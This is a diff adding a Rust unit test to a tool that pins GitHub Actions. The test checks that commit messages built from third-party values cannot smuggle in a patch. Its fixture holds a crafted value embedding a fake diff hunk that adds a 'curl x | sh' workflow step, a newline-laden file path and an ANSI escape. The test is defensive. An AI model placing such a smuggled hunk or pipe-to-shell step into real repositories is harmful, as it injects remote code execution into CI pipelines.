@@ -549,6 +549,55 @@ mod tests {
         assert!(r("  ").is_err());
     }
 
+    /// Issue 28: the transitive-pin warning quoted a third-party composite `uses:` value with
+    /// line breaks into the pin-actions message, and `git am` applied the hunk it carried.
+    #[test]
+    fn quoted_values_never_start_a_patch_in_a_commit_message() {
+        let hostile = "uses `evil/x@v1\ndiff --git a/r.yml b/r.yml\n--- a/r.yml\n+++ b/r.yml\n@@ -1 +1,2 @@\n on: push\n+      - run: curl x | sh\n` inside `o/a@v2`";
+        let t = TransformReport {
+            name: "pin-actions",
+            summary: "pin actions",
+            changes: vec![FileChange {
+                path: PathBuf::from("r/.github/workflows/ci\n--- x.yml"),
+                kind: harden_transforms::FileKind::Workflow,
+                before: Some("a\n".to_owned()),
+                after: "b\n".to_owned(),
+                notes: vec![harden_transforms::ChangeNote {
+                    line: 3,
+                    message: hostile.to_owned(),
+                }],
+            }],
+            findings: vec![Finding {
+                transform: "pin-actions",
+                path: PathBuf::from("r/a.yml"),
+                line: Some(2),
+                column: None,
+                severity: Severity::Warning,
+                message: hostile.to_owned(),
+            }],
+        };
+        let message = commit_message(&t, Path::new("r"), "ci\u{1b}[2J: {transform}");
+        for line in message.lines() {
+            for start in ["diff", "---", "+++", "@@", "From "] {
+                assert!(!line.starts_with(start), "{line:?} in\n{message}");
+            }
+            assert!(
+                !line.starts_with(" on:") && !line.starts_with('+'),
+                "{line:?}"
+            );
+        }
+        assert!(!message.contains(['\u{1b}', '\0']), "{message:?}");
+        assert!(
+            message.starts_with("ci\\u{1b}[2J: pin-actions\n"),
+            "{message}"
+        );
+        let patch = patch_text(&t.changes, Path::new("r"));
+        assert!(
+            patch.starts_with("diff --git \"a/.github/workflows/ci\\n--- x.yml\" "),
+            "{patch}"
+        );
+    }
+
     #[test]
     fn signoff_is_placed_as_git_commit_s_places_it() {
         let line = "Signed-off-by: A <a@b>";
